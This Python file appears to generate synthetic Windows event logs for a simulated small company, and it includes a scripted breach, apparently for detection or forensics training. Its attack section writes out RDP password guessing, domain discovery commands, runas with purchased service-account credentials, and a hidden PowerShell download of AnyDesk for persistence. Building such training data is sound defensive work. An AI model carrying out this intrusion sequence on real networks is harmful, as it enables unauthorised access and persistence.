def rdp_disconnect(t, s, tags=()):
    lsm(t, s.host, 24, s.acct, s.session, s.src_ip, tags=tags)
    sec(later(t, 0, 0.2), s.host, 4779, {
        "AccountName": s.acct.sam, "AccountDomain": DOMAIN, "LogonID": s.lid,
        "SessionName": "RDP-Tcp#%d" % R.randrange(1, 30), "ClientName": s.client,
        "ClientAddress": s.src_ip}, tags=tags)


def rdp_reconnect(t, s, src_ip=None, tags=()):
    src_ip = src_ip or s.src_ip
    nla = logon(t, s.host, s.acct, 3, ip=src_ip, workstation="-", package="Kerberos", tags=tags)
    rcm_1149(later(t, 0.05, 0.2), s.host, s.acct, src_ip, tags=tags)
    logoff(later(t, 0.3, 1), s.host, s.acct, nla, 3, tags=tags)
    t = later(t, 0.5, 2)
    s.lid2 = logon(t, s.host, s.acct, 10, ip=src_ip, workstation=s.host.name, package="User32 ",
                   process="C:\\Windows\\System32\\svchost.exe",
                   process_id="0x%x" % s.host.svchost_lsm_pid, subject_system=True, tags=tags)
    t = later(t, 0.2, 1)
    lsm(t, s.host, 25, s.acct, s.session, src_ip, tags=tags)
    sec(later(t, 0, 0.2), s.host, 4778, {
        "AccountName": s.acct.sam, "AccountDomain": DOMAIN, "LogonID": s.lid,
        "SessionName": "RDP-Tcp#%d" % R.randrange(1, 30), "ClientName": s.client,
        "ClientAddress": src_ip}, tags=tags)
    return later(t, 1, 3)


def rdp_logoff(t, s, tags=()):
    lsm(t, s.host, 23, s.acct, s.session, None, tags=tags)
    logoff(later(t, 0.1, 1), s.host, s.acct, s.lid, 10, user_initiated=True, tags=tags)


def explicit_creds(t, host, subject, subject_lid, target, server, info, process_image, pid,
                   ip="-", port="-", tags=()):
    sec(t, host, 4648, {
        "SubjectUserSid": subject.sid, "SubjectUserName": subject.sam, "SubjectDomainName": DOMAIN,
        "SubjectLogonId": subject_lid, "LogonGuid": "{00000000-0000-0000-0000-000000000000}",
        "TargetUserName": target.sam, "TargetDomainName": DOMAIN, "TargetLogonGuid": guid_upper(),
        "TargetServerName": server, "TargetInfo": info, "ProcessId": "0x%x" % pid,
        "ProcessName": process_image, "IpAddress": ip, "IpPort": port}, tags=tags)


# ---------------------------------------------------------------------------
# benign background
# ---------------------------------------------------------------------------

APPS_BY_DEPT = {
    "Finance": [("C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "\"{img}\" \"\\\\FS01\\Finance\\2025\\Q1\\Buchungen_Maerz.xlsx\""),
                ("C:\\Program Files (x86)\\DATEV\\PROGRAMM\\B0000015\\DATEV.Arbeitsplatz.exe", "\"{img}\"")],
    "Sales": [("C:\\Program Files\\CorpCRM\\CorpCRM.exe", "\"{img}\" /server:SQL01"),
              ("C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "\"{img}\" \"\\\\FS01\\Sales\\Pipeline_2025.xlsx\"")],
    "Sales (field, works remotely)": [("C:\\Program Files\\CorpCRM\\CorpCRM.exe", "\"{img}\" /server:SQL01")],
    "HR": [("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "\"{img}\" /n \"\\\\FS01\\HR\\Vertraege\\Vorlage_Arbeitsvertrag.docx\"")],
    "Engineering": [("C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe", "\"{img}\""),
                    ("C:\\Program Files\\Git\\cmd\\git.exe", "git pull --ff-only")],
    "Customer support": [("C:\\Program Files\\CorpCRM\\CorpCRM.exe", "\"{img}\" /server:SQL01 /mode:support")],
    "Office management": [("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "\"{img}\"")],
    "Marketing": [("C:\\Program Files\\Adobe\\Adobe Photoshop 2024\\Photoshop.exe", "\"{img}\"")],
    "Managing director": [("C:\\Program Files\\Microsoft Office\\root\\Office16\\POWERPNT.EXE", "\"{img}\" \"\\\\FS01\\Projects\\Board\\Board_Q1.pptx\"")],
    "IT helpdesk": [("C:\\Windows\\System32\\mmc.exe", "\"C:\\Windows\\system32\\mmc.exe\" \"C:\\Windows\\system32\\dsa.msc\""),
                    ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "\"{img}\"")],
}
SHARES_BY_DEPT = {
    "Finance": ["Finance", "Home"], "Sales": ["Sales", "Home"], "HR": ["HR", "Home"],
    "Engineering": ["Projects", "Home"], "Customer support": ["Support", "Home"],
    "Office management": ["Office", "Home", "Scans"], "Marketing": ["Marketing", "Home"],
    "Managing director": ["Projects", "Finance", "Home"], "IT helpdesk": ["IT", "Home"],
    "Sales (field, works remotely)": ["Sales", "Home"],
}
CLOUD = [("142.250.185.78", "www.google.com"), ("52.97.146.162", "outlook.office365.com"),
         ("52.113.194.132", "teams.microsoft.com"), ("13.107.42.12", "onedrive.live.com"),
         ("20.190.159.2", "login.microsoftonline.com")]
MISC_APPS = [
    ("C:\\Windows\\System32\\notepad.exe", "\"C:\\Windows\\system32\\notepad.exe\" C:\\Users\\{user}\\Desktop\\notes.txt", None),
    ("C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe", "\"C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe\" \"C:\\Users\\{user}\\Downloads\\Rechnung_2025-0311.pdf\"", ("23.45.232.112", "acroipm2.adobe.com")),
    ("C:\\Windows\\System32\\SnippingTool.exe", "\"C:\\Windows\\system32\\SnippingTool.exe\"", None),
    ("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --single-argument https://intranet.corp.local/", ("10.10.10.40", "intranet.corp.local")),
    ("C:\\Windows\\System32\\calc.exe", "\"C:\\Windows\\system32\\calc.exe\"", None),
    ("C:\\Program Files\\Zoom\\bin\\Zoom.exe", "\"C:\\Program Files\\Zoom\\bin\\Zoom.exe\" \"--url=zoommtg://zoom.us/join?confno=81234567890\"", ("170.114.52.2", "zoom.us")),
    ("C:\\Windows\\System32\\mspaint.exe", "\"C:\\Windows\\system32\\mspaint.exe\"", None),
    ("C:\\Program Files\\7-Zip\\7zFM.exe", "\"C:\\Program Files\\7-Zip\\7zFM.exe\" \"C:\\Users\\{user}\\Downloads\\Angebot_Unterlagen.zip\"", None),
]
USER_APPS = [
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "\"{img}\"", 0),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "\"{img}\"", 1),
    ("C:\\Program Files\\WindowsApps\\MSTeams_24033.811.2738.2546_x64__8wekyb3d8bbwe\\ms-teams.exe",
     "\"{img}\" --system-initiated", 2),
    ("C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe", "\"{img}\" /background", 3),
]


def workstation_day(day, user):
    host = user.host
    if user is BY_SAM["d.okafor"]:
        return okafor_day(day)
    morning = at(day, 7, R.randrange(0, 50), R.uniform(0, 59))   # 08:00-08:50 local
    lid = logon(morning, host, user, 2, ip="127.0.0.1", workstation=host.name, package="User32 ",
                process="C:\\Windows\\System32\\svchost.exe",
                process_id="0x%x" % host.svchost_lsm_pid, subject_system=True)
    kerberos_tgt(later(morning, -1.5, -0.5), user, host.ip)
    service_ticket(later(morning, -0.4, -0.1), user, host, host.ip, "host")
    userinit = process(later(morning, 1, 2), host, user, "C:\\Windows\\System32\\userinit.exe",
                       "C:\\Windows\\system32\\userinit.exe", host.p_winlogon, lid=lid)
    explorer = process(later(morning, 2, 4), host, user, "C:\\Windows\\explorer.exe",
                       "C:\\Windows\\Explorer.EXE", userinit, lid=lid)
    t = later(morning, 20, 60)
    procs = []
    for img, cmd, idx in USER_APPS:
        if idx == 3 and R.random() < 0.3:
            continue
        t = later(t, 5, 90)
        p = process(t, host, user, img, cmd.format(img=img), explorer, lid=lid)
        procs.append(p)
        ip, name = CLOUD[idx]
        netconn(later(t, 1, 8), p, ip, 443, name)
    # file server shares (logged on FS01), Kerberos ticket on DC01
    fs_t = later(morning, 30, 300)
    service_ticket(fs_t, user, FS01, host.ip)
    fs_lid = logon(later(fs_t, 0.05, 0.2), FS01, user, 3, ip=host.ip,
                   port=str(R.randrange(49152, 65000)))
    st = later(fs_t, 0.2, 1)
    for share in SHARES_BY_DEPT[user.dept]:
        path = "D:\\Shares\\%s" % share if share != "Home" else "D:\\Home"
        st = share_access(later(st, 1, 400), FS01, user, fs_lid, host.ip, share,
                          "\\??\\" + path)
    # department apps during the day
    t = at(day, 8, R.randrange(0, 60))
    for img, cmd in APPS_BY_DEPT[user.dept]:
        for _ in range(R.randrange(1, 3)):
            t = later(t, 600, 5400)
            p = process(t, host, user, img.replace("{user}", user.sam),
                        cmd.format(img=img.replace("{user}", user.sam)), explorer, lid=lid)
            if "CorpCRM" in img:
                crm_session(later(t, 2, 6), user, p)
    # everyday odds and ends
    t = at(day, 8, R.randrange(0, 30))
    for img, cmd, net in R.sample(MISC_APPS, R.randrange(3, 6)):
        t = later(t, 900, 4000)
        p = process(t, host, user, img, cmd.format(user=user.sam), explorer, lid=lid)
        if net:
            netconn(later(t, 1, 10), p, net[0], 443, net[1])
    # lunch: lock / unlock (type 7)
    unlock = at(day, 11, R.randrange(30, 59), R.uniform(0, 59))
    ul = logon(unlock, host, user, 7, ip="127.0.0.1", workstation=host.name, package="User32 ",
               process="C:\\Windows\\System32\\svchost.exe",
               process_id="0x%x" % host.svchost_lsm_pid, subject_system=True)
    logoff(later(unlock, 0.5, 3), host, user, ul, 7)
    if day == 0 and user.sam in ("n.larsen", "a.rossi", "e.schmidt"):
        task_registered(later(morning, 300, 900), user, lid)
    if user is BY_SAM["t.brandt"]:
        helpdesk_day(day, user, explorer, lid)
    # evening logoff
    evening = at(day, 15, R.randrange(30, 59)) + dt.timedelta(minutes=R.randrange(0, 90))
    logoff(evening, host, user, lid, 2, user_initiated=True)
    logoff(later(evening, 600, 3600), FS01, user, fs_lid, 3)


def crm_session(t, user, proc):
    """CorpCRM talks to SQL Server with Windows authentication."""
    service_ticket(t, user, SQL01, proc.host.ip, "MSSQLSvc")
    port = R.randrange(49152, 65000)
    netconn(later(t, 0.1, 0.3), proc, SQL01.ip, 1433, SQL01.fqdn, src_port=port)
    lid = logon(later(t, 0.2, 0.5), SQL01, user, 3, ip=proc.host.ip, port=str(port))
    netconn(later(t, 0.2, 0.5), SQL01.p_sql, SQL01.ip, 1433, "-", initiated=False,
            src_ip=proc.host.ip, src_port=port)
    logoff(later(t, 900, 7200), SQL01, user, lid, 3)


def okafor_day(day):
    """David Okafor works remotely: RDP from his home IP to WS03 in business hours."""
    user, host = BY_SAM["d.okafor"], HOST["WS03"]
    t = at(day, 7, R.randrange(5, 55), R.uniform(0, 59))
    ntlm_validate(later(t, -0.2, -0.05), user.sam, "LT-OKAFOR")
    netconn(t, host.p_ts, host.ip, 3389, host.fqdn, initiated=False, src_ip=HOME_IP_OKAFOR,
            src_port=R.randrange(49152, 65000))
    s = rdp_logon(later(t, 0.1, 0.5), host, user, HOME_IP_OKAFOR, "LT-OKAFOR", 2, package="NTLM")
    kerberos_tgt(later(s.t, 0, 2), user, host.ip)
    t = s.t
    for img, cmd, idx in USER_APPS[:3]:
        t = later(t, 10, 120)
        p = process(t, host, user, img, cmd.format(img=img), s.explorer, lid=s.lid)
        netconn(later(t, 1, 6), p, CLOUD[idx][0], 443, CLOUD[idx][1])
    for _ in range(2):
        t = later(t, 1800, 5400)
        p = process(t, host, user, "C:\\Program Files\\CorpCRM\\CorpCRM.exe",
                    "\"C:\\Program Files\\CorpCRM\\CorpCRM.exe\" /server:SQL01", s.explorer, lid=s.lid)
        crm_session(later(t, 2, 6), user, p)
    service_ticket(later(t, 30, 90), user, FS01, host.ip)
    fs_lid = logon(later(t, 91, 92), FS01, user, 3, ip=host.ip, port=str(R.randrange(49152, 65000)))
    share_access(later(t, 92, 95), FS01, user, fs_lid, host.ip, "Sales", "\\??\\D:\\Shares\\Sales")
    end = at(day, 16, R.randrange(0, 50))
    rdp_logoff(end, s)
    logoff(later(end, 60, 600), FS01, user, fs_lid, 3)


def helpdesk_day(day, user, explorer, lid):
    """Tobias Brandt (IT): TeamViewer support sessions, RDP with his admin account."""
    ws12 = HOST["WS12"]
    # TeamViewer support session
    target_user = [BY_SAM["j.martens"], BY_SAM["e.schmidt"], BY_SAM["l.fischer"]][day]
    target = target_user.host
    t = at(day, 9, R.randrange(0, 40))
    tv = process(t, ws12, user, "C:\\Program Files\\TeamViewer\\TeamViewer.exe",
                 "\"C:\\Program Files\\TeamViewer\\TeamViewer.exe\"", explorer, lid=lid)
    netconn(later(t, 1, 3), tv, R.choice(TEAMVIEWER_ROUTER_IPS), 5938, "router15.teamviewer.com")
    t2 = later(t, 30, 90)
    netconn(t2, target.p_teamviewer, R.choice(TEAMVIEWER_ROUTER_IPS), 5938,
            "router7.teamviewer.com")
    tvd = process(later(t2, 1, 2), target, "NT AUTHORITY\\SYSTEM",
                  "C:\\Program Files\\TeamViewer\\TeamViewer_Desktop.exe",
                  "\"C:\\Program Files\\TeamViewer\\TeamViewer_Desktop.exe\" --IPCport 5939 --Module 1",
                  target.p_teamviewer, integrity="System", security=True)
    process(later(t2, 400, 900), target, target_user, "C:\\Windows\\System32\\control.exe",
            "\"C:\\Windows\\system32\\control.exe\" printers", tvd, lid="0x%x" % R.randrange(0x50000, 0x90000))
    # RDP to a server with the admin account
    server = [FS01, SQL01, FS01][day]
    t = at(day, 12, R.randrange(30, 59))
    mstsc = process(t, ws12, user, "C:\\Windows\\System32\\mstsc.exe",
                    "\"C:\\Windows\\system32\\mstsc.exe\" /v:%s" % server.name, explorer, lid=lid)
    explicit_creds(later(t, 2, 6), ws12, user, lid, ADM_TBRANDT, server.fqdn, server.fqdn,
                   "C:\\Windows\\System32\\mstsc.exe", mstsc.pid, ip=server.ip, port="3389")
    kerberos_tgt(later(t, 6, 7), ADM_TBRANDT, ws12.ip)
    service_ticket(later(t, 7, 7.5), ADM_TBRANDT, server, ws12.ip, "TERMSRV")
    netconn(later(t, 7.5, 8), mstsc, server.ip, 3389, server.fqdn)
    s = rdp_logon(later(t, 8, 9), server, ADM_TBRANDT, ws12.ip, "WS12", 2 + day)
    tt = s.t
    if server is FS01:
        for cmd in ["Get-SmbShare", "Get-ChildItem D:\\Shares -Directory | Measure-Object"]:
            tt = later(tt, 20, 200)
            process(tt, server, ADM_TBRANDT,
                    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    "powershell.exe -NoProfile -Command \"%s\"" % cmd, s.explorer, lid=s.lid,
                    integrity="High", token="%%1937")
    else:
        tt = later(tt, 20, 200)
        process(tt, server, ADM_TBRANDT,
                "C:\\Program Files (x86)\\Microsoft SQL Server Management Studio 19\\Common7\\IDE\\Ssms.exe",
                "\"C:\\Program Files (x86)\\Microsoft SQL Server Management Studio 19\\Common7\\IDE\\Ssms.exe\"",
                s.explorer, lid=s.lid, integrity="High", token="%%1937")
    rdp_logoff(later(tt, 600, 1500), s)
    # software deployment over the admin share of one workstation (day 2)
    if day == 1:
        target = HOST["WS04"]
        t = at(day, 14, R.randrange(0, 30))
        service_ticket(t, ADM_TBRANDT, target, ws12.ip)
        alid = logon(later(t, 0.1, 0.3), target, ADM_TBRANDT, 3, ip=ws12.ip,
                     port=str(R.randrange(49152, 65000)))
        share_access(later(t, 0.3, 1), target, ADM_TBRANDT, alid, ws12.ip, "C$", "\\??\\C:\\",
                     ["Windows\\Temp\\Setup_Druckertreiber_5.4.msi"], access="0x2",
                     access_list="%%4417")
        msi = process(later(t, 40, 60), target, "NT AUTHORITY\\SYSTEM", "C:\\Windows\\System32\\msiexec.exe",
                      "C:\\Windows\\system32\\msiexec.exe /i C:\\Windows\\Temp\\Setup_Druckertreiber_5.4.msi /qn",
                      target.p_services, integrity="System", token="%%1936")
        service_installed(later(t, 70, 90), target, "PaperCut Print Deploy Client",
                          "\"C:\\Program Files\\PaperCut Print Deploy Client\\pc-print-deploy-client.exe\" --service",
                          "LocalSystem", SYSTEM_SID)
        logoff(later(t, 100, 160), target, ADM_TBRANDT, alid, 3)


TASK_XML = ("<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.3\" "
            "xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n  <RegistrationInfo>\r\n"
            "    <Author>Microsoft Corporation</Author>\r\n    <URI>\\OneDrive Reporting Task-{sid}</URI>\r\n"
            "  </RegistrationInfo>\r\n  <Triggers>\r\n    <TimeTrigger>\r\n      <Repetition>\r\n"
            "        <Interval>P1D</Interval>\r\n      </Repetition>\r\n      <StartBoundary>{start}</StartBoundary>\r\n"
            "    </TimeTrigger>\r\n  </Triggers>\r\n  <Principals>\r\n    <Principal id=\"Author\">\r\n"
            "      <UserId>{sid}</UserId>\r\n      <LogonType>InteractiveToken</LogonType>\r\n"
            "    </Principal>\r\n  </Principals>\r\n  <Actions Context=\"Author\">\r\n    <Exec>\r\n"
            "      <Command>%localappdata%\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe</Command>\r\n"
            "      <Arguments>/reporting</Arguments>\r\n    </Exec>\r\n  </Actions>\r\n</Task>")


def task_registered(t, user, lid):
    host = user.host
    sec(t, host, 4698, {
        "SubjectUserSid": user.sid, "SubjectUserName": user.sam, "SubjectDomainName": DOMAIN,
        "SubjectLogonId": lid, "TaskName": "\\OneDrive Reporting Task-%s" % user.sid,
        "TaskContent": TASK_XML.format(sid=user.sid, start=(t + dt.timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M:%S")),
        "ClientProcessStartKey": R.randrange(10**15, 10**16), "ClientProcessId": host.new_pid(),
        "ParentProcessId": host.new_pid(), "RpcCallClientLocality": 0, "FQDN": host.fqdn})


def scheduled_background(day, host):
    """Scheduled tasks and system processes every host runs."""
    tasks = [
        (2, "C:\\Program Files (x86)\\Google\\GoogleUpdater\\122.0.6228.0\\updater.exe",
         "\"C:\\Program Files (x86)\\Google\\GoogleUpdater\\122.0.6228.0\\updater.exe\" --wake --system"),
        (9, "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24020.7-0\\MpCmdRun.exe",
         "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24020.7-0\\MpCmdRun.exe\" -SignatureUpdate -ScheduleJob -RestrictPrivileges"),
        (13, "C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe"),
        (20, "C:\\Windows\\System32\\sc.exe", "C:\\Windows\\system32\\sc.exe start wuauserv"),
    ]
    if host.kind == "ws":
        tasks.append((10, "C:\\Program Files\\Microsoft OneDrive\\OneDriveStandaloneUpdater.exe",
                      "\"C:\\Program Files\\Microsoft OneDrive\\OneDriveStandaloneUpdater.exe\" /reporting"))
    for hh, img, cmd in tasks:
        if host.kind != "ws" and "GoogleUpdater" in img:
            continue
        t = at(day, hh, R.randrange(0, 59), R.uniform(0, 59))
        process(t, host, "NT AUTHORITY\\SYSTEM", img, cmd, host.p_sched, integrity="System",
                cwd="C:\\Windows\\system32\\", token="%%1936")
    t = at(day, R.randrange(6, 18), R.randrange(0, 59))
    process(t, host, "NT AUTHORITY\\NETWORK SERVICE", "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
            "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", host.p_wmi,
            integrity="System", token="%%1936")
    if host.kind == "ws":
        netconn(at(day, R.randrange(6, 9), R.randrange(0, 59)), host.p_teamviewer,
                R.choice(TEAMVIEWER_ROUTER_IPS), 5938, "master%d.teamviewer.com" % R.randrange(1, 16))


def dc_background(day):
    """Computer accounts talk to the DC: TGTs, LDAP/GPO tickets, SYSVOL reads."""
    for host in [FS01, SQL01] + WORKSTATIONS:
        macct = (machine_account(host), host.machine_sid)
        t = at(day, R.randrange(5, 7), R.randrange(0, 59), R.uniform(0, 59))
        kerberos_tgt(t, macct, host.ip)
        service_ticket(later(t, 0.1, 0.5), macct, DC01, host.ip, "ldap")
        lid = logon(later(t, 0.5, 1), DC01, macct, 3, ip=host.ip,
                    port=str(R.randrange(49152, 65000)))
        share_access(later(t, 1, 2), DC01, macct, lid, host.ip, "SYSVOL",
                     "\\??\\C:\\Windows\\SYSVOL\\sysvol",
                     ["%s\\Policies\\{31B2F340-016D-11D2-945F-00C04FB984F9}\\gpt.ini" % DNS_DOMAIN])
        logoff(later(t, 3, 10), DC01, macct, lid, 3)
    # users' GPO processing at logon (one per user and day) and the odd typo
    for user in USERS:
        t = at(day, 7, R.randrange(0, 59), R.uniform(0, 59))
        lid = logon(t, DC01, user, 3, ip=user.host.ip, port=str(R.randrange(49152, 65000)))
        share_access(later(t, 0.2, 1), DC01, user, lid, user.host.ip, "SYSVOL",
                     "\\??\\C:\\Windows\\SYSVOL\\sysvol")
        logoff(later(t, 2, 8), DC01, user, lid, 3)
    for user in R.sample(USERS, 2):
        t = at(day, R.randrange(7, 16), R.randrange(0, 59))
        sec(t, DC01, 4771, {
            "TargetUserName": user.sam, "TargetSid": user.sid,
            "ServiceName": "krbtgt/%s" % REALM, "TicketOptions": "0x40810010", "Status": "0x18",
            "PreAuthType": "2", "IpAddress": dc_ip(user.host.ip),
            "IpPort": str(R.randrange(49152, 65000)), "CertIssuerName": "",
            "CertSerialNumber": "", "CertThumbprint": ""}, keywords=KW_FAILURE)
    # svc_scan: the scanner stores to \\FS01\Scans in office hours
    for hh in (8, 10, 14):
        t = at(day, hh, R.randrange(0, 59))
        ntlm_validate(t, SVC_SCAN.sam, "MFP-OG1")
        lid = logon(later(t, 0.1, 0.2), FS01, SVC_SCAN, 3, ip="10.10.30.15", workstation="MFP-OG1",
                    package="NTLM", port=str(R.randrange(1024, 5000)))
        share_access(later(t, 0.2, 0.5), FS01, SVC_SCAN, lid, "10.10.30.15", "Scans",
                     "\\??\\D:\\Shares\\Scans",
                     ["Scan_%s.pdf" % (at(day, hh).strftime("%Y%m%d") + "_%04d" % R.randrange(10000))],
                     access="0x2", access_list="%%4417")
        logoff(later(t, 5, 20), FS01, SVC_SCAN, lid, 3)


def backup_night(day):
    """svc_backup's normal job: 23:30 UTC, the backup server (FS01) reads DC01 and SQL01
    over ADMIN$ (agent check) -- the account's only remote footprint."""
    t = at(day, 23, 30, R.uniform(0, 30))
    veeam = process(t, FS01, SVC_BACKUP, "C:\\Program Files\\Veeam\\Backup and Replication\\Backup\\Veeam.Backup.Manager.exe",
                    "\"C:\\Program Files\\Veeam\\Backup and Replication\\Backup\\Veeam.Backup.Manager.exe\" -JobId 7c1f3c2e-5a8b-4a38-9a43-3f1d2b0c7e11",
                    FS01.p_services, lid="0x%x" % R.randrange(0x30000, 0x60000), integrity="System",
                    token="%%1936")
    for target in (DC01, SQL01):
        t = later(t, 30, 120)
        service_ticket(t, SVC_BACKUP, target, FS01.ip)
        netconn(later(t, 0.1, 0.2), veeam, target.ip, 445, target.fqdn)
        lid = logon(later(t, 0.2, 0.4), target, SVC_BACKUP, 3, ip=FS01.ip,
                    port=str(R.randrange(49152, 65000)))
        share_access(later(t, 0.4, 1), target, SVC_BACKUP, lid, FS01.ip, "ADMIN$",
                     "\\??\\C:\\Windows", ["VeeamVssSupport\\VeeamGuestHelper.exe"])
        logoff(later(t, 300, 900), target, SVC_BACKUP, lid, 3)
    # SQL Server's own backup job writes to the backup share
    t = at(day, 22, 0, R.uniform(0, 20))
    service_ticket(t, SVC_SQL, FS01, SQL01.ip)
    lid = logon(later(t, 0.1, 0.2), FS01, SVC_SQL, 3, ip=SQL01.ip, port=str(R.randrange(49152, 65000)))
    share_access(later(t, 0.2, 0.5), FS01, SVC_SQL, lid, SQL01.ip, "Backup$",
                 "\\??\\E:\\Backup", ["SQL01\\CustomerDB_%s.bak" % at(day, 22).strftime("%Y%m%d")],
                 access="0x2", access_list="%%4417")
    logoff(later(t, 600, 1200), FS01, SVC_SQL, lid, 3)


def server_background(day, host):
    if host is SQL01:
        t = at(day, 2, 0, R.uniform(0, 30))
        process(t, host, SVC_SQL,
                "C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\SQLAGENT.EXE",
                "\"C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\SQLAGENT.EXE\" -i MSSQLSERVER",
                host.p_services, lid=host.p_sql.lid, integrity="High", token="%%1936")
    if host is FS01:
        t = at(day, 3, 0, R.uniform(0, 30))
        process(t, host, "NT AUTHORITY\\SYSTEM", "C:\\Windows\\System32\\defrag.exe",
                "C:\\Windows\\system32\\defrag.exe -c -h -o -$", host.p_sched, integrity="System",
                token="%%1936")


# ---------------------------------------------------------------------------
# the attack (DESIGN.md breach 1)
# ---------------------------------------------------------------------------

TIMELINE = []   # (time, host, account, what, evidence)


def note(t, host, account, what, evidence):
    TIMELINE.append((t, host, account, what, evidence))


def attack():
    A = ("attack",)
    ws03, okafor = HOST["WS03"], BY_SAM["d.okafor"]
    # --- night 1 (2025-03-12, 02:00-04:20 local) -------------------------------------------
    t = at(1, 1, 2, 13.4)
    note(t, "WS03", "-", "RDP password guessing from %s against the port-forwarded RDP of WS03 "
         "(administrator, admin, scan, d.okafor)" % ATTACKER_IP,
         "ws-winlogbeat: 4625 (LogonType 3, NtLmSsp, WorkstationName %s); dc01: 4776 failures"
         % ATTACKER_CLIENT)
    guesses = (["administrator"] * 5 + ["admin"] * 3 + ["scan"] * 2 + ["administrator"] * 2
               + ["d.okafor"] * 2)
    for i, name in enumerate(guesses):
        t = later(t, 20, 160) if i else t
        exists = name in ("administrator", "d.okafor")
        sub = "0xc000006a" if exists else "0xc0000064"
        netconn(t, ws03.p_ts, ws03.ip, 3389, ws03.fqdn, initiated=False, src_ip=ATTACKER_IP,
                src_port=R.randrange(40000, 65000), tags=A)
        ntlm_validate(later(t, 0.05, 0.1), name, ATTACKER_CLIENT, status=sub, tags=A)
        failed_logon(later(t, 0.1, 0.2), ws03, name, ATTACKER_IP, ATTACKER_CLIENT, sub, tags=A)
    t = at(1, 1, 41, 7.2)
    note(t, "WS03", "d.okafor", "RDP logon with the stolen password of d.okafor from new source "
         "IP %s at night (client %s)" % (ATTACKER_IP, ATTACKER_CLIENT),
         "ws-winlogbeat: RCM 1149, 4624 LogonType 3 (NLA) + 10, LSM 21/22; dc01: 4776, 4768")
    netconn(t, ws03.p_ts, ws03.ip, 3389, ws03.fqdn, initiated=False, src_ip=ATTACKER_IP,
            src_port=R.randrange(40000, 65000), tags=A)
    ntlm_validate(later(t, 0.05, 0.1), okafor.sam, ATTACKER_CLIENT, tags=A)
    s_ws03 = rdp_logon(later(t, 0.1, 0.2), ws03, okafor, ATTACKER_IP, ATTACKER_CLIENT, 3, tags=A,
                       package="NTLM")
    kerberos_tgt(later(s_ws03.t, 0, 1), okafor, ws03.ip, tags=A)
    t = later(s_ws03.t, 60, 120)
    cmd = process(t, ws03, okafor, "C:\\Windows\\System32\\cmd.exe",
                  "\"C:\\Windows\\system32\\cmd.exe\"", s_ws03.explorer, lid=s_ws03.lid, tags=A)
    note(t, "WS03", "d.okafor", "discovery: whoami, domain admins, domain controllers, shares",
         "ws-winlogbeat: Sysmon 1 / 4688 (cmd.exe children)")
    for c in ["whoami /all", "net group \"Domain Admins\" /domain", "net group \"Backup Operators\" /domain",
              "nltest /dclist:%s" % DNS_DOMAIN, "net view \\\\FS01"]:
        t = later(t, 8, 40)
        exe = {"whoami": "whoami.exe", "net": "net.exe", "nltest": "nltest.exe"}[c.split()[0]]
        process(t, ws03, okafor, "C:\\Windows\\System32\\%s" % exe, c, cmd, lid=s_ws03.lid, tags=A)
    # runas with the bought svc_backup credentials
    t = at(1, 1, 49, 31.0)
    note(t, "WS03", "d.okafor -> svc_backup", "runas with the bought credentials of svc_backup "
         "(explicit credentials, new interactive logon)",
         "ws-winlogbeat: 4648 (TargetUserName svc_backup, localhost), 4624 LogonType 2 seclogo, 4672")
    runas = process(t, ws03, okafor, "C:\\Windows\\System32\\runas.exe",
                    "runas /user:CORP\\svc_backup cmd.exe", cmd, lid=s_ws03.lid, tags=A)
    explicit_creds(later(t, 6, 9), ws03, okafor, s_ws03.lid, SVC_BACKUP, "localhost", "localhost",
                   "C:\\Windows\\System32\\svchost.exe", ws03.svchost_seclogon_pid, ip="::1", port="0",
                   tags=A)
    kerberos_tgt(later(t, 9, 9.3), SVC_BACKUP, ws03.ip, tags=A)
    blid = logon(later(t, 9.4, 9.6), ws03, SVC_BACKUP, 2, ip="::1", workstation=ws03.name,
                 package="seclogo", process="C:\\Windows\\System32\\svchost.exe",
                 process_id="0x%x" % ws03.svchost_seclogon_pid, subject_system=True, tags=A)
    bcmd = process(later(t, 9.7, 10), ws03, SVC_BACKUP, "C:\\Windows\\System32\\cmd.exe",
                   "cmd.exe", runas, lid=blid, integrity="High", tags=A, token="%%1937")
    # AnyDesk for persistence
    t = at(1, 1, 53, 2.5)
    note(t, "WS03", "svc_backup", "AnyDesk downloaded to C:\\ProgramData and installed as a "
         "service (remote access that admins also use)",
         "ws-winlogbeat: Sysmon 1 (powershell download, C:\\ProgramData\\AnyDesk.exe --install), "
         "Sysmon 11, Sysmon 3, System 7045 'AnyDesk Service'")
    ps = process(t, ws03, SVC_BACKUP, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                 "powershell.exe -nop -w hidden -c \"Invoke-WebRequest -Uri http://download.anydesk.com/AnyDesk.exe "
                 "-OutFile C:\\ProgramData\\AnyDesk.exe\"", bcmd, integrity="High", tags=A, token="%%1937")
    netconn(later(t, 1, 2), ps, ANYDESK_DOWNLOAD_IP, 80, "download.anydesk.com", tags=A)
    filecreate(later(t, 2, 4), ps, "C:\\ProgramData\\AnyDesk.exe", tags=A)
